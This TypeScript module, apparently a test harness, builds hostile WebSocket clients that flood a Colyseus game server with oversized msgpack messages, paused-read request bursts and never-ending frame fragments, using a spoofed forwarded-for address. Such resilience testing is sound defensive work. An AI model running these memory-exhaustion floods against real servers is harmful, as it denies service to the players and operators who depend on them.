import { Packr } from 'msgpackr';
import { Protocol } from 'colyseus';
import { WebSocket } from 'ws';

/** Attacks that try to fill a server's memory within its limits. */
export const ATTACKS = ['lists', 'values', 'fragments', 'unread', 'moments'] as const;
export type AttackName = (typeof ATTACKS)[number];

/** The size of a message, of which a server takes 16 KiB. */
const FRAME = 16_000;
/** As many values as a frame may have. */
const VALUES = 1_000;
/** A client buffers so many bytes on its own machine before it stops sending. */
const MUCH = 256 * 1024;
const BURST = 50;
/** Attackers come from one address, and the honest player from another. */
const ELSEWHERE = { 'x-forwarded-for': '192.0.2.66' };

const packr = new Packr({ useRecords: false });
const NAMED = (name: string, body: Uint8Array, request = 7): Buffer =>
  Buffer.concat([
    Buffer.of(Protocol.ROOM_REQUEST, request, 0xa0 + name.length),
    Buffer.from(name),
    body,
  ]);
const LISTS = NAMED('history', packr.pack(Array(FRAME).fill([])));
const FULL = NAMED('history', packr.pack(Array(VALUES).fill([])));
const HISTORY = NAMED('history', packr.pack({ from: 1 }));
const MOMENTS = NAMED('moments', packr.pack({ from: 0 }));

/** One connection of an attacker, which goes on until it is stopped, or closed. */
export class HostileConnection {
  readonly #socket: WebSocket;
  #stopped = false;

  private constructor(socket: WebSocket) {
    this.#socket = socket;
    socket.on('error', () => undefined);
  }

  /** Watches a match whose table is open. */
  static async watch(address: string, matchId: string): Promise<HostileConnection> {
    const headers = { ...ELSEWHERE, 'content-type': 'application/json' };
    const seat = await fetch(`${address}/matchmake/joinById/${matchId}`, {
      ...{ method: 'POST', headers, body: '{}' },
    });
    const { processId, sessionId } = (await seat.json()) as Readonly<Record<string, string>>;
    const socket = new WebSocket(
      `${address.replace('http', 'ws')}/${processId}/${matchId}?sessionId=${sessionId}`,
      { headers: ELSEWHERE },
    );
    await new Promise((resolve, reject) => socket.once('message', resolve).once('error', reject));
    socket.send(Buffer.of(Protocol.JOIN_ROOM));
    return new HostileConnection(socket);
  }

  get closed(): boolean {
    return this.#socket.readyState !== WebSocket.OPEN;
  }

  attack(name: AttackName): void {
    if (name === 'lists') this.#keepSending(LISTS);
    else if (name === 'values') this.#keepSending(FULL);
    else if (name === 'fragments') this.#sendFragments();
    else if (name === 'moments')
      for (let sent = 0; sent < BURST; sent++) this.#socket.send(MOMENTS);
    else {
      this.#socket.pause();
      for (let sent = 0; sent < BURST; sent++) this.#socket.send(HISTORY);
    }
  }

  stop(): void {
    this.#stopped = true;
    this.#socket.terminate();
  }

  #keepSending(frame: Buffer): void {
    if (this.#stopped || this.closed) return;
    while (this.#socket.bufferedAmount < MUCH) this.#socket.send(frame);
    setTimeout(() => this.#keepSending(frame), 50);
  }

  /** A message of single bytes, which never ends. */
  #sendFragments(): void {
    for (let sent = 0; sent < FRAME; sent++) this.#socket.send(Buffer.of(10), { fin: false });
  }
}
